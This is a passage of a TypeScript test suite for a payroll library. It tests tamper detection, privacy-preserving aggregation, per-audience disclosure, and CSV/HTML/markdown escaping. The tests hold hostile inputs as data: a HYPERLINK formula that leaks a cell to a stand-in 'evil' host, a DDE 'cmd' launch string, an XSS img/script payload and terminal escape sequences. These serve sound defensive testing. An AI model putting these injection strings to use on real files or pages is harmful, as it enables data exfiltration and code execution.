    expect(told([january, february, anew], { head })).toEqual([['not-the-head', '[2].digest']])
  })

  test('A24 whatever is changed in what is stored is told or refused by a PolicyError', () => {
    const stored = JSON.parse(JSON.stringify(february))
    const paths = pathsIn(stored).filter((path) => path.length > 0)
    const values = [null, 7, 'x', [], {}, undefined, '2026-13', '0x10']
    fc.assert(
      fc.property(fc.constantFrom(...paths), fc.constantFrom(...values), (path, value) => {
        const odd = replaced(stored, path, value) as PayRun
        if (JSON.stringify(odd) === JSON.stringify(stored)) return
        expect(verifyRuns([january, odd]).length).toBeGreaterThan(0)
        expect(verifyRun(of, people, odd, { before: january }).length).toBeGreaterThan(0)
        expect(problemsOf(() => settled('2026-03', odd)).length).toBeGreaterThan(0)
        expect(problemsOf(() => parsePayRun(odd)).length).toBeGreaterThan(0)
      }),
      { numRuns: 150 },
    )
  })

  test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
    'A25 pay of %s that skipped its parser is refused at once',
    (value) => {
      const salary = [{ from: '2020-01-01', value }]
      const data = { people: [{ ...payLi(), attributes: { salary } }] }
      const asked = { period: '2026-01', before: 'first' } as const
      expect(found(() => settlePay(of, data as never, asked))).toEqual([['unread-data', 'data']])
      const read = () => settlePay(of, parsePayData(data), asked)
      const problems = problemsOf(() => read())
      expect(problems.length > 0 || read().lines.length === 0).toBe(true)
      const opening = {
        component: 'base',
        person: 'li',
        earned: { rhythm: 'month', period: '2025-12' },
        settled: value,
        why: 'Paid by hand',
      }
      const opened = () => settlePay(of, people, { ...asked, openings: [opening] })
      expect(found(opened).map(([, path]) => path)).toEqual(['openings[0].settled'])
    },
  )
})

describe('payroll: what leaves a run runs nowhere, and tells of nobody alone', () => {
  const salary = payAttribute('salary', money('CNY'), 2)
  const bonus = payAttribute('bonus', money('CNY'), 2, { missing: '0' })
  const book = payBook(
    [payComponent('base', { pays: 'due' }, salary), payComponent('bonus', { pays: 'due' }, bonus)],
    { currency: 'CNY', retro: 0 },
  )
  const since = '2026-01-01'
  const members = (department: string, salaries: readonly string[], more: object = {}) =>
    salaries.map((value, i) => ({
      id: `${department}${i}`,
      employment: [{ from: since }],
      attributes: {
        salary: [{ from: since, value }],
        department: [{ from: since, value: department }],
        ...(i === 0 ? more : {}),
      },
    }))
  const march = (people: readonly object[]) => {
    const data = parsePayData({ people })
    return { book, data, run: settlePay(book, data, { period: '2026-03', before: 'first' }) }
  }
  const received = { bonus: [{ from: since, value: '500.00' }] }
  const made = march([
    ...members('audit', ['47.89'], received),
    ...members('sales', ['10.00', '20.00', '30.00', '40.00']),
    ...members('tech', ['1.00', '2.00', '3.00']),
  ])
  const groupsOf = (smallest?: number) =>
    payroll
      .totals(book, made.data, [made.run], { by: ['department'], smallest })
      .paid[0]?.groups['department']?.map(({ values, total }) => [values.join(), total])

  test('A39 the total of one person is told with that of the next smallest group', () => {
    expect(groupsOf()).toEqual([
      ['sales', '100.00'],
      ['audit,tech', '553.89'],
    ])
    expect(groupsOf(1)?.[0]).toEqual(['audit', '547.89'])
    expect(groupsOf(5)).toEqual([['audit,sales,tech', '653.89']])
  })

  test('A39 a component of one person is not told, nor had by subtraction', () => {
    const { paid } = payroll.totals(book, made.data, [made.run], { by: ['department'] })
    const text = JSON.stringify(paid)
    expect(text).not.toContain('500.00')
    expect(paid[0]?.company).toMatchObject({ components: {}, others: '653.89' })
    const all = payroll.totals(book, made.data, [made.run], { smallest: 1 })
    expect(all.paid[0]?.company.components).toEqual({ base: '153.89', bonus: '500.00' })
  })

  test('A39 a mean of one person is told with others', () => {
    const means = (smallest?: number) =>
      payroll
        .compareRuns(made, made, { by: ['department'], smallest })
        .groups['department']?.map(({ values, mean }) => [values.join(), mean.after])
    expect(means()).toEqual([
      ['sales', '25.00'],
      ['audit,tech', '138.47'],
    ])
    expect(means(1)?.[0]).toEqual(['audit', '547.89'])
  })

  test('A39 a group that is small in one scenario is told with others in all', () => {
    const { groups } = payroll.simulate({
      ...{ book, scenarios: 2, seed: 1, by: ['department'] },
      draw: () => made.data,
      pay: (data) => settlePay(book, data, { period: '2026-03', before: 'first' }),
    })
    expect(groups['department']?.map(({ values }) => values.join())).toEqual([
      'sales',
      'audit,tech',
    ])
  })

  describe('A19 a journal as CSV', () => {
    const [row] = payroll.journal(book, made.data, made.run, {
      by: ['department'],
      locale: 'en',
    }) as readonly [payroll.JournalRow]
    const cells = (
      change: Partial<payroll.JournalRow>,
      options?: Parameters<typeof payroll.journalCsv>[1],
    ) => payroll.journalCsv([{ ...row, ...change }], options).split('currency\r\n')[1] as string

    test.each([
      '=HYPERLINK("http://evil/?"&A1)',
      "+1+cmd|'/C calc'!A0",
      '-2+3',
      '@SUM(A1)',
      '\tx',
      '\rx',
      '\nx',
      '＝1+1',
      '＋1',
      '－1',
      '＠x',
      '  =1',
      '\u0000=1',
      '\u200E=1',
    ])('runs no text: %j', (text) => {
      for (const column of [
        'paid',
        'earned',
        'person',
        'assignment',
        'component',
        'label',
        'clause',
      ] as const)
        expect(cells({ [column]: text })).toMatch(/(^|,)"?'/)
      expect(cells({ attributes: { department: text } })).toMatch(/(^|,)"?'/)
      expect(cells({ label: text }, { formulas: 'keep' })).not.toMatch(/(^|,)"?'/)
      const named = payroll.journalCsv([{ ...row, attributes: { [text]: 'x' } }])
      expect(named).toMatch(/,"?'/)
    })

    test('keeps amounts, and a text that is no formula', () => {
      expect(cells({ amount: '-20.50' })).toContain(',-20.50,')
      expect(cells({ amount: '=1+1' })).toContain(",'=1+1,")
      expect(cells({ label: 'Ann-Lee =' })).toContain(',Ann-Lee =,')
      expect(cells({})).toBe(cells({}, { formulas: 'keep' }))
    })

    test('holds no control character', () => {
      const hostile = 'a\u0000b\u001b[31mc\u0007d\u202Ee\u009Bf\uFEFFg'
      expect(cells({ label: hostile })).toContain(',ab[31mcdefg,')
      expect(cells({ label: hostile }, { formulas: 'keep' })).toContain(',ab[31mcdefg,')
      expect(cells({ label: 'two\tparts' })).toContain(',two\tparts,')
    })

    test('begins with a mark where that is asked for', () => {
      expect(payroll.journalCsv([], { mark: true })).toBe(`\uFEFF${payroll.journalCsv([])}`)
    })
  })
})

describe('payroll: a view of the new run confirms no guess, and holds nothing that is not named', () => {
  const { about, company: of, data: known, dataOf, key, march: paid, people, runOf } = firm
  const given = ['employee', 'manager', 'peer', 'auditor'] as const
  const locales = ['en', 'zh-CN'] as const
  const formats = ['text', 'markdown', 'html'] as const
  const viewOf = (audience: string, person = 'li', from = paid, told = known) =>
    payroll.disclose(of, told, from, { key, about, person, audience })
  const pages = (view: payroll.View) =>
    locales.flatMap((locale) =>
      formats.map((format) => payroll.renderView(view, { locale, format, book: of })),
    )
  const hashesOf = (value: unknown) => new Set(JSON.stringify(value).match(/[0-9a-f]{64}/g))

  test.each([
    ['salary', '4321.01'],
    ['score', '76'],
    ['sales', '641.00'],
  ])(
    'A1 the %s of another is confirmed by no digest that the employee can work out',
    (name, other) => {
      for (const value of [people.wang[name as 'salary'], other]) {
        const told = dataOf({ ...people, wang: { ...people.wang, [name]: value } })
        const run = runOf(told)
        const worked = [
          digestOf(told),
          digestOf(run),
          ...hashesOf(run),
          ...payroll
            .statements(of, told, run, { about })
            .flatMap((each) => [
              digestOf(each),
              ...each.lines.flatMap((line) => [digestOf(line), ...line.parts.map(digestOf)]),
            ]),
        ]
        for (const audience of ['employee', 'manager', 'peer'])
          for (const digest of hashesOf(viewOf(audience))) expect(worked).not.toContain(digest)
      }
    },
  )

  test.each(given)('A2 the copy of the %s says nothing of the run before', (audience) => {
    const april = settlePay(of, known, { period: '2026-04', before: paid })
    const view = JSON.stringify(viewOf(audience, 'li', april))
    expect(view).not.toContain(paid.digest)
    expect(view.includes(april.digest)).toBe(audience === 'auditor')
  })

  // What only some may see, by who may.
  const marks: readonly (readonly [string, string, readonly string[]])[] = [
    ['a reason', 'Taxi at night', ['employee', 'auditor']],
    ['what a formula read', '514.37', ['employee', 'auditor']],
    ['an amount', '3087.91', ['employee', 'manager', 'auditor']],
    ['the score of the team', '146', ['auditor']],
    ['the sum of all sales', '1874.37', ['auditor']],
    ['the digest of the run', '', ['auditor']],
  ]
  test.each(given)(
    'A3 the page and the data of the %s hold no mark of what is hidden',
    (audience) => {
      const li = { ...people.li, salary: '3087.91', sales: '514.37', score: '69' }
      const told = dataOf({ ...people, li })
      const run = runOf(told)
      const view = viewOf(audience, 'li', run, told)
      for (const [, mark, seen] of marks) {
        const text = mark === '' ? run.digest : mark
        const grouped = text.replace(/^(\d)(\d{3}\.)/, '$1,$2')
        expect(JSON.stringify(view).includes(`"${text}"`)).toBe(seen.includes(audience))
        for (const page of pages(view)) {
          const plain = page.replaceAll('\\', '')
          expect([text, grouped].some((each) => plain.includes(each))).toBe(seen.includes(audience))
        }
      }
      for (const page of pages(view)) {
        expect(page).not.toMatch(/undefined|null|NaN|wang|Wang/)
        expect(page).toContain('Li Na')
      }
    },
  )

  test.each([
    ['a pool of two weighted by salary', 'pool'],
    ['what reads the divided value itself', 'note'],
    ['a sum over a team of two', 'teamBonus'],
    ['a turnover of two', 'shop'],
  ])('A15 %s shows neither what is divided nor the sum of others', (_, name) => {
    const { wang } = people
    const told = dataOf({ li: people.li, wang })
    const run = runOf(told)
    const lines = (audience: string) =>
      viewOf(audience, 'li', run, told).lines.filter(({ shown }) => shown.what?.component === name)
    expect(
      lines('auditor').every(({ shown }) => Object.keys(shown.others?.[0] ?? {}).length > 0),
    ).toBe(true)
    for (const { shown } of lines('employee')) {
      expect(shown.others).toBeUndefined()
      expect(shown.working?.map(({ read }) => read)).toEqual([{}])
    }
    const text = JSON.stringify(viewOf('employee', 'li', run, told))
    for (const each of ['900', '900.00', '7321', '147', '1140'])
      expect(text).not.toContain(`"${each}"`)
  })

  const noted = <T extends object>(each: T): T => ({ ...each, hrNote: '§§' })
  const withNotes = {
    ...paid,
    hrNote: '§§',
    lines: paid.lines.map((line) => ({
      ...noted(line),
      earned: noted(line.earned),
      parts: line.parts.map(noted),
    })),
    withheld: paid.withheld.map(noted),
  }
  const labelled = {
    ...of,
    components: new Map(
      [...of.components].map(([name, each]) => [
        name,
        {
          ...each,
          versions: each.versions.map((version) => {
            const { label = name } = version.component
            const own = typeof label === 'string' ? label : noted(label)
            return { ...version, component: { ...version.component, label: own } }
          }),
        },
      ]),
    ),
  }
  test.each([
    ['a run', of, withNotes],
    ['the labels of a book', labelled, paid],
    ['a statement that inherits one', of, Object.setPrototypeOf({ ...paid }, { hrNote: '§§' })],
  ] as const)('A16 a note in %s comes through to nobody', (_, book, run) => {
    for (const audience of given) {
      const view = payroll.disclose(book, known, run, { key, about, person: 'li', audience })
      expect(JSON.stringify(view)).not.toContain('§§')
      expect(view).toEqual(viewOf(audience))
      for (const page of pages(view)) expect(page).not.toContain('§§')
    }
  })

  test.each([
    ['A19 a formula', '=HYPERLINK("http://evil/?"&A1)'],
    ['A20 a directive', "%%{init: {'theme':'forest'}}%% `**x**`"],
    ['A21 an address', 'http://evil.com/x www.evil.com a@evil.com'],
    ['A22 a forged line', 'Li\nTotal: 99,999.00 CNY\u001b[31m'],
    ['A3 markup', '<img src=x onerror=alert(1)> [x](http://evil) </title><script>'],
  ])('%s in a name adds nothing', (_, name) => {
    const named = known.people.map((each) => (each.id === 'li' ? { ...each, name } : each))
    const told = parsePayData({ ...known, people: named })
    const lines = (view: payroll.View) => pages(view).map((page) => page.split('\n').length)
    for (const audience of given) {
      const view = viewOf(audience, 'li', paid, told)
      expect(lines(view)).toEqual(lines(viewOf(audience)))
      for (const [i, page] of pages(view).entries()) {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be left
        expect(page).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/)
        if (formats[i % 3] === 'html') expect(page).not.toMatch(/<img|<script|<\/title>./)
        if (formats[i % 3] !== 'markdown') continue
        // Without what is escaped, and the emphasis of the list itself.
        const plain = page.replace(/\\[^\w\s]/g, '').replaceAll('**', '')
        expect(plain).not.toMatch(/[`*[\]<>@]|:\/\/|www\./)
      }
    }
  })
})

describe('package: where a fault is told, and who built what is published', () => {
  const read = (name: string) => readFileSync(new URL(`../../${name}`, import.meta.url), 'utf8')
  const manifest = JSON.parse(read('package.json')) as {
    readonly files: readonly string[]
    readonly publishConfig?: { readonly provenance?: boolean }
    readonly scripts: Readonly<Record<string, string>>
  }

  test('A38 the package carries a policy of security, and is published with provenance', () => {
    expect(manifest.files).toContain('SECURITY.md')
    expect(read('SECURITY.md')).toMatch(/report/i)
    expect(manifest.publishConfig?.provenance).toBe(true)
  })

  test.each(['preinstall', 'install', 'postinstall'])('A38 nothing runs at %s', (script) => {
    expect(manifest.scripts).not.toHaveProperty(script)
  })
})
